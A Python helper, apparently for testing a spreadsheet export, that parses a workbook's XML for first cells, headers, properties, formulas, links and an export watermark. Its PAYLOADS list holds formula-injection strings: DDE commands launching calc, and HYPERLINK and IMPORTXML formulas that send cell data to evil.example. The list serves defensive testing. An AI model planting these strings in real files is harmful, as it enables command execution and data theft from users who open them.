"""What a workbook holds beside its cells, and whether any cell could run: read from the file's own XML."""

import io
import re
import zipfile
from dataclasses import dataclass

# What a spreadsheet would run, or has run, where text begins with it.
PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "\t=1+1", "\r=1+1", '=IMPORTXML("http://evil.example","//a")',
    "＝1+1", "%0A=1+1", "http://evil.example/", "{=1+1}",
)  # fmt: skip
MARK = re.compile(r"水印 ([0-9a-f-]{36}) 导出 (\d{4}-\d\d-\d\d \d\d:\d\d) (\S+) 用途 ([^\s（]+)")


@dataclass(frozen=True)
class Seen:
    """The parts of a workbook that matter here."""

    first_lines: list[str]  # the first cell of each sheet
    pages: list[str]  # header and footer of each sheet
    properties: str
    formulas: int
    links: int


def look(content: bytes) -> Seen:
    """Take a workbook apart."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))}
    sheets = [parts[name] for name in sorted(parts) if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", name)]
    firsts = [re.search(r'<c r="A1"[^>]*>(.*?)</c>', sheet, re.DOTALL) for sheet in sheets]
    shared = re.findall(r"<si>(.*?)</si>", parts.get("xl/sharedStrings.xml", ""), re.DOTALL)
    return Seen(
        first_lines=[_text(found[1], shared) for found in firsts if found],
        pages=["".join(re.findall(r"<odd(?:Header|Footer)>(.*?)</odd", sheet)) for sheet in sheets],
        properties=parts["docProps/core.xml"],
        formulas=sum(sheet.count("<f>") + sheet.count("<f ") for sheet in sheets),
        links=sum("hyperlink" in text for name, text in parts.items() if name.startswith("xl/worksheets")),
    )


def _text(cell: str, shared: list[str]) -> str:
    number = re.search(r"<v>(\d+)</v>", cell)
    return shared[int(number[1])] if number and shared else cell
